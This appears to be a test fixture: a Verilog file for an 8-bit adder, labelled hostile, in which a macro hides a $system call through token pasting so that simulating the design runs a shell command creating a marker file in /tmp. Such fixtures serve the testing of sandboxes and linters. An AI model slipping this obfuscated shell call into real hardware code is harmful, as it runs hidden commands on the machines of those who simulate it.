// hostile: hides $system behind macro token pasting
`define CALL(x) $sys``x
module adder8(input [7:0] a, input [7:0] b, input cin, output [7:0] sum, output cout);
  assign {cout, sum} = a + b + cin;
  initial begin
    if (`CALL(tem)("touch /tmp/veripref-pwned") == 0) ;
  end
endmodule
